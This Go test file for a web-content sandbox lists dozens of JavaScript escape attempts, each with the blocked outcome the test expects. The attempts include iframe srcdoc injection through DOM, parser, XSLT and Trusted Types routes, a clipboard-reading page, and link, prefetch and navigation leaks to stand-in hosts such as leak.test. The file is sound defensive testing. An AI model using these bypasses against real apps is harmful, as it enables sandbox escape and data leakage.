package attack

import "strings"

// frameOf is an attack by a frame whose text has a script of the bundle: it would have no bridge, and say that it ran.
func frameOf(name, make string) Attack {
	return Attack{"frame by " + name, `framed(async (TEXT) => { ` + make + ` })`, "silence"}
}

// linkOf is an attack by a link that connects to a host, or looks up its name; what it did is seen at the host, and in the browser's log.
func linkOf(name, make string) Attack {
	host := strings.ReplaceAll(name, " ", "-")
	return Attack{"link by " + name, `linked("` + host + `", async (REL, TO, HTML) => { ` + make + ` })`, "nothing"}
}

// Granted is the host that Sent is granted.
const Granted = "http://map.example"

// grantedPage tells the app around it what is on the clipboard, if it is told: it has no guard.
const grantedPage = `<!doctype html><script>
Promise.resolve().then(() => navigator.clipboard.readText()).then((text) => "READ " + text, () => "not told").then((what) => parent.postMessage(what, "*"));
</script>`

// Sent is how an app tells a name by a frame of a host that is granted to it, where the engine looks a name up before it asks a
// policy.
func Sent() Attack {
	return Attack{"granted frame that is sent on", `(async () => {
  const violated = [];
  document.addEventListener("securitypolicyviolation", (e) => violated.push(e.violatedDirective, e.blockedURI));
  const heard = new Promise((done) => { addEventListener("message", (e) => done(e.data)); setTimeout(() => done("the granted page says nothing " + violated), 20000) });
  const f = add("iframe", { name: "map", src: "` + Granted + `/granted" });
  if ((await heard) !== "not told") return f.localName + ": " + (await heard);
  for (const go of [
    () => (f.src = "http://sent1.leak.test/"), () => (window[window.length - 1].location = "http://sent2.leak.test/"), () => click({ href: "http://sent3.leak.test/", target: "map" }),
    () => click({ href: "http://sent4.leak.test/", target: "map" }, true), () => sendForm("get", "http://sent5.leak.test/", "map"), () => open("http://sent6.leak.test/", "map"),
    () => Native.open.call(window, "http://sent7.leak.test/", "map"), () => (f.src = "` + Granted + `/to?to=http://sent8.leak.test/"), () => add("iframe", { src: "http://sent9.leak.test/" }),
  ]) { try { go() } catch (e) {} await wait() }
  return wait("nothing");
})()`, "nothing"}
}

// escapes are ways to a frame without the bridge, and to a link that connects: by HTML, by nodes, and by what makes either.
var escapes = []Attack{
	frameOf("property", `add("iframe", { srcdoc: TEXT })`),
	frameOf("attribute", `const f = add("iframe"); f.setAttribute("SrcDoc", TEXT)`),
	frameOf("name that changes", `const f = add("iframe"); let n = 0; f.setAttribute({ toString: () => (n++ ? "srcdoc" : "title") }, TEXT); f.setAttribute({ toString: () => "srcdoc" }, TEXT)`),
	frameOf("attribute without namespace", `const f = add("iframe"); f.setAttributeNS(null, "srcdoc", TEXT); f.setAttributeNS("", "srcdoc", TEXT)`),
	frameOf("attribute node", `const f = add("iframe"), a = document.createAttribute("srcdoc"); a.value = TEXT; f.setAttributeNode(a)`),
	frameOf("attribute node without namespace", `const f = add("iframe"), a = document.createAttributeNS(null, "srcdoc"); a.nodeValue = TEXT; f.setAttributeNodeNS(a)`),
	frameOf("map of attributes", `const f = add("iframe"), a = document.createAttribute("srcdoc"); a.textContent = TEXT; f.attributes.setNamedItem(a); f.attributes.setNamedItemNS(a)`),
	frameOf("value", `const f = add("iframe"); f.toggleAttribute("srcdoc", true); f.attributes.srcdoc.value = TEXT`),
	frameOf("value of a node", `const f = add("iframe"); f.toggleAttribute("srcdoc", true); f.attributes.srcdoc.nodeValue = TEXT; f.attributes.srcdoc.textContent = TEXT`),
	frameOf("attribute of another", `const f = add("iframe"), p = document.createElement("p"); p.setAttribute("srcdoc", TEXT); f.setAttributeNode(p.removeAttributeNode(p.attributes.srcdoc))`),
	frameOf("inner HTML", `add("div").innerHTML = FRAME(TEXT)`),
	frameOf("outer HTML", `add("div").outerHTML = FRAME(TEXT)`),
	frameOf("adjacent HTML", `document.body.insertAdjacentHTML("beforeend", FRAME(TEXT).replace("srcdoc", "\nSRCDOC\t"))`),
	frameOf("unsafe HTML", `add("div").setHTMLUnsafe("<div><template shadowrootmode=open>" + FRAME(TEXT) + "</template></div>")`),
	frameOf("HTML of a shadow", `add("div").attachShadow({ mode: "open" }).innerHTML = FRAME(TEXT)`),
	frameOf("fragment", `document.body.append(document.createRange().createContextualFragment(FRAME(TEXT)))`),
	frameOf("template", `const t = document.createElement("template"); t.innerHTML = FRAME(TEXT); document.body.append(t.content.cloneNode(true))`),
	frameOf("inert document", `const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = FRAME(TEXT); document.body.append(d.body.firstChild)`),
	frameOf("parser", `document.body.append(new DOMParser().parseFromString(FRAME(TEXT), "text/html").body.firstChild)`),
	frameOf("parser of a template", `document.body.append(document.importNode(new DOMParser().parseFromString("<template>" + FRAME(TEXT) + "</template>", "text/html").querySelector("template").content, true))`),
	frameOf("document that is parsed", `document.body.append(Document.parseHTMLUnsafe(FRAME(TEXT)).body.firstChild)`),
	frameOf("written inert document", `const d = document.implementation.createHTMLDocument(""); d.write("<body><iframe src"); d.write("doc='" + TEXT + "'></iframe>"); document.body.append(d.querySelector("iframe"))`),
	frameOf("entity", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "<iframe xmlns=\'http://www.w3.org/1999/xhtml\' &#115;rcdoc=\'' + TEXT.replace(/</g, "&#38;#60;") + '\'/>">]><x>&e;</x>', "text/xml"); document.body.append(document.importNode(d.documentElement.firstChild, true))`),
	frameOf("default of a document type", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ATTLIST iframe srcdoc CDATA "' + TEXT.replace(/</g, "&#60;") + '">]><x><iframe xmlns="http://www.w3.org/1999/xhtml"/></x>', "text/xml"); document.body.append(document.importNode(d.documentElement.firstChild, true))`),
	frameOf("transformation", `const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><xsl:attribute name="{concat(\'src\', \'doc\')}">' + TEXT.replace(/</g, "&lt;") + '</xsl:attribute></iframe></xsl:template></xsl:stylesheet>', "text/xml")); document.body.append(p.transformToFragment(document.implementation.createDocument(null, "x"), document))`),
	frameOf("command", `const e = add("div", { contentEditable: "true", textContent: "x" }); e.focus(); getSelection().selectAllChildren(e); document.execCommand("insertHTML", false, FRAME(TEXT))`),
	frameOf("policy of its own", `const p = trustedTypes.createPolicy("mine", { createHTML: (s) => s }); add("div").innerHTML = p.createHTML(FRAME(TEXT)); add("iframe", { srcdoc: p.createHTML(TEXT) }); add("iframe").setAttribute("srcdoc", p.createHTML(TEXT))`),
	frameOf("the default policy", `add("div").innerHTML = trustedTypes.defaultPolicy.createHTML(FRAME(TEXT)); add("iframe", { srcdoc: trustedTypes.defaultPolicy.createHTML(TEXT) })`),
	frameOf("another default policy", `TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, "default", { createHTML: (s) => s }); add("div").innerHTML = FRAME(TEXT)`),
	frameOf("changed built-ins", `const e = RegExp.prototype.exec, s = String.prototype.slice, i = Symbol.iterator; try { RegExp.prototype.exec = () => null; String.prototype.slice = () => "x"; Object.prototype.get = () => "x"; add("div").innerHTML = FRAME(TEXT) } finally { RegExp.prototype.exec = e; String.prototype.slice = s; delete Object.prototype.get }`),
	frameOf("data with a script", `add("iframe", { src: "data:text/html," + encodeURIComponent(TEXT) })`),
	frameOf("blob with a script", `add("iframe", { src: URL.createObjectURL(new Blob([TEXT], { type: "text/html" })) })`),
	frameOf("script in its address", `add("iframe", { src: "javascript:" + JSON.stringify(TEXT) })`),
	frameOf("object", `add("object", { data: "data:text/html," + encodeURIComponent(TEXT) }); add("embed", { src: base + "h5/page.svg" }); add("object", { data: base + "h5/page.svg" })`),
	frameOf("page of the app", `add("iframe", { src: base + "h5/page.svg" }); const f = add("iframe"); f.contentWindow.location = base + "h5/page.svg"`),
	{"frame that is a document", `(document.body.append(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe", null).documentElement), String(window[0]))`, "undefined"},
	{"frame that is a custom element", `(customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }), String(window[0]))`, "TypeError"},
	{"frame in a namespace", `(document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "h:IFRAME".toLowerCase())), String(window[0]))`, "undefined"},
	{"frame by HTML", `(document.body.insertAdjacentHTML("beforeend", "<IFRAME name=x></IFRAME>"), document.body.append(new DOMParser().parseFromString("<iframe>", "text/html").body), String(window[0]))`, "undefined"},
	{"frame by an object", `(add("object", { data: "about:blank", type: "text/html" }), add("embed", { src: "about:blank", type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
	{"frame by an empty object", `(add("object", { type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
	{"border of an object's name", `(["\t", "\n", "\f", "\r", " ", "/", ">", ""].forEach((c) => ["object data", "EMBED src", "iframe src"].forEach((tag) => { const [name, at] = tag.split(" "); add("div").innerHTML = "<" + name + c + at + "='" + base + "h5/page.svg'></" + name + ">"; add("div").innerHTML = "<" + name + c })), await wait(), String(document.querySelector("div > object, div > embed, div > iframe")))`, "null"},
	{"object in XML", `(await (async () => { const d = new DOMParser().parseFromString('<x xmlns:h="http://www.w3.org/1999/xhtml"><h:object type="text/html"/><h:embed type="text/html"/></x>', "text/xml"); return d.documentElement.childElementCount })())`, "0"},
	{"object in XML by a prefix of blanks", `["\u1680", "\ufeff", "h"].map((p) => { const d = document.implementation.createDocument(null, "x"); try { d.documentElement.innerHTML = "<" + p + ":embed xmlns:" + p + "='http://www.w3.org/1999/xhtml'/>" } catch (e) { return e.name } return d.documentElement.firstChild.localName })`, "no-embed,no-embed,no-embed"},
	// what is no frame stays: a feed's own objects, and names that begin as theirs do
	{"objects of a feed", `new DOMParser().parseFromString('<rss xmlns:media="http://search.yahoo.com/mrss/"><object/><embed/><media:embed/><iframe/></rss>', "text/xml").documentElement.childElementCount`, "4"},
	{"names that begin as an object's", `(add("div").innerHTML = "<embed-card></embed-card><object-x></object-x><iframe-x></iframe-x>", [...document.body.lastChild.children, document.querySelector("#card")].map((el) => el.localName))`, "embed-card,object-x,iframe-x,embed-card"},
	frameOf("object that goes", `for (const el of [add("object", { type: "text/html", data: "about:blank" }), add("embed", { type: "text/html", src: "about:blank" })]) { await wait(); for (let i = 0; i < window.length; i++) for (const to of [OUT + "/object2", base + "h5/page.svg", base + "h5/index.html", "data:text/html," + encodeURIComponent(TEXT), "javascript:" + JSON.stringify(TEXT)]) try { window[i].location = to; await wait() } catch (e) {} el.data = el.src = OUT + "/object3"; await wait() }`),
	{"frames of the page's HTML", `JSON.stringify(ran)`, "[]"},
	{"frame that is empty", `String(add("iframe").contentWindow.RTCPeerConnection)`, "TypeError"},
	{"frame that is reached by its number", `(add("iframe", { name: "within" }), String(window[0].RTCPeerConnection))`, "TypeError"},
	{"script before the doctype", `window.early`, "undefined undefined"},
	{"worker's web rtc", `inWorker("postMessage(typeof RTCPeerConnection + typeof webkitRTCPeerConnection)")`, "undefinedundefined"},

	linkOf("property", `const l = document.createElement("link"); l.href = TO; document.head.append(l); l.rel = REL`),
	linkOf("property before its address", `const l = document.createElement("link"); l.rel = REL; document.head.append(l); l.href = TO`),
	linkOf("attribute", `const l = document.createElement("link"); l.setAttribute("REL", "x " + REL.toUpperCase() + "\n"); l.href = TO; document.head.append(l)`),
	linkOf("value that changes", `const l = document.createElement("link"); let n = 0; l.setAttribute("rel", { toString: () => (n++ ? REL : "icon") }); l.rel = { toString: () => REL }; l.href = TO; document.head.append(l)`),
	linkOf("attribute without namespace", `const l = document.createElementNS("http://www.w3.org/1999/xhtml", "link"); l.setAttributeNS(null, "rel", REL); l.href = TO; document.head.append(l)`),
	linkOf("attribute node", `const l = document.createElement("link"), a = document.createAttribute("rel"); a.value = REL; l.href = TO; l.setAttributeNode(a); document.head.append(l)`),
	linkOf("map of attributes", `const l = document.createElement("link"), a = document.createAttribute("rel"); l.attributes.setNamedItem(a); l.href = TO; document.head.append(l); a.value = REL; a.nodeValue = REL; a.textContent = REL`),
	linkOf("attribute of another", `const l = document.createElement("link"), p = document.createElement("a"); p.setAttribute("rel", REL); l.href = TO; document.head.append(l); l.setAttributeNode(p.removeAttributeNode(p.attributes.rel))`),
	linkOf("list", `const l = document.createElement("link"); l.relList.add("icon", REL); l.relList.toggle(REL, true); l.relList.replace("icon", REL); l.relList.value += " " + REL; l.relList = REL; l.href = TO; document.head.append(l)`),
	linkOf("inner HTML", `add("div").innerHTML = HTML`),
	linkOf("outer HTML", `add("div").outerHTML = HTML.replace("rel=", "title='>' REL=").toUpperCase().replace(TO.toUpperCase(), TO)`),
	linkOf("adjacent HTML", `document.body.insertAdjacentHTML("beforeend", "<svg><style><p>" + HTML + "</style></svg>")`),
	linkOf("entities", `document.body.insertAdjacentHTML("beforeend", HTML.replace(/rel="(.)/, (_, c) => 'rel="&#' + c.charCodeAt(0) + ";"))`),
	linkOf("safe HTML", `add("div").setHTML?.(HTML, { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } })`),
	linkOf("unsafe HTML", `add("div").setHTMLUnsafe(HTML)`),
	linkOf("fragment", `document.head.append(document.createRange().createContextualFragment(HTML))`),
	linkOf("template", `const t = document.createElement("template"); t.innerHTML = HTML; document.body.append(t.content.cloneNode(true))`),
	linkOf("parser", `document.head.append(new DOMParser().parseFromString(HTML, "text/html").querySelector("link") ?? "")`),
	linkOf("XML", `const d = new DOMParser().parseFromString('<x xmlns:h="http://www.w3.org/1999/xhtml"><h:style><h:link rel="' + REL + '" href="' + TO + '"/></h:style></x>', "text/xml"); document.head.append(d.documentElement.firstChild.firstChild)`),
	linkOf("HTML in XML", `const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "x"); d.documentElement.innerHTML = '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="' + REL + '" href="' + TO + '"/>'; document.head.append(d.documentElement.firstChild)`),
	linkOf("entity", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "<&#108;ink xmlns=\'http://www.w3.org/1999/xhtml\' rel=\'' + REL + "' href='" + TO + '\'/>">]><x>&e;</x>', "text/xml"); document.head.append(d.documentElement.firstChild)`),
	linkOf("policy of its own", `const p = trustedTypes.createPolicy("links", { createHTML: (s) => s }); add("div").innerHTML = p.createHTML(HTML)`),
	linkOf("command", `const e = add("div", { contentEditable: "true", textContent: "x" }); e.focus(); getSelection().selectAllChildren(e); document.execCommand("insertHTML", false, HTML)`),
	linkOf("page of the app", `add("iframe", { src: base + "h5/page.svg" })`),
	{"anchors", `(document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="x-dns-prefetch-control" content="on">'), document.body.insertAdjacentHTML("beforeend", '<a href="//anchor.leak.test/">there</a>'), wait("nothing"))`, "nothing"},
	{"pages ahead by a text of the page", `(add("script", { type: "speculationrules", textContent: document.querySelector("#rules").textContent }), wait("nothing"))`, "nothing"},
	{"later fetch", `typeof fetchLater === "undefined" ? "refused" : (fetchLater(OUT + "/later", { activateAfter: 0 }), wait("nothing"))`, "SecurityError"},
	{"advertisements", `typeof navigator.joinAdInterestGroup === "undefined" ? "refused" : navigator.joinAdInterestGroup({ owner: OUT, name: "x" }, 9).then(() => "JOINED", () => "refused")`, "refused"},
	{"topics", `typeof document.browsingTopics === "undefined" ? "refused" : document.browsingTopics().then(() => "TOLD", () => "refused")`, "refused"},
	{"identity", `navigator.credentials.get({ identity: { providers: [{ configURL: OUT + "/identity", clientId: "x" }] } }).then(() => "TOLD", () => "refused")`, "refused"},
	{"keys", `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }).then(() => "TOLD", () => "refused")`, "refused"},
	{"share", `typeof navigator.share === "undefined" ? "refused" : navigator.share({ url: OUT }).then(() => "SHARED", () => "refused")`, "refused"},
	{"serial", `typeof navigator.serial === "undefined" ? "refused" : navigator.serial.getPorts().then((l) => "TOLD", () => "refused")`, "refused"},
	{"human interfaces", `typeof navigator.hid === "undefined" ? "refused" : navigator.hid.getDevices().then((l) => "TOLD", () => "refused")`, "refused"},
	{"fonts of the machine", `typeof queryLocalFonts === "undefined" ? "refused" : queryLocalFonts().then((l) => "TOLD", () => "refused")`, "refused"},
	{"idle", `typeof IdleDetector === "undefined" ? "refused" : IdleDetector.requestPermission().then(() => "GIVEN", () => "refused")`, "refused"},
	{"sensors", `typeof Accelerometer === "undefined" ? "refused" : (new Accelerometer(), "MADE")`, "SecurityError"},
	{"midi", `typeof navigator.requestMIDIAccess === "undefined" ? "refused" : navigator.requestMIDIAccess().then(() => "GIVEN", () => "refused")`, "refused"},
	{"presentation", `typeof PresentationRequest === "undefined" ? "refused" : (new PresentationRequest(OUT + "/show"), "MADE")`, "SecurityError"},
}
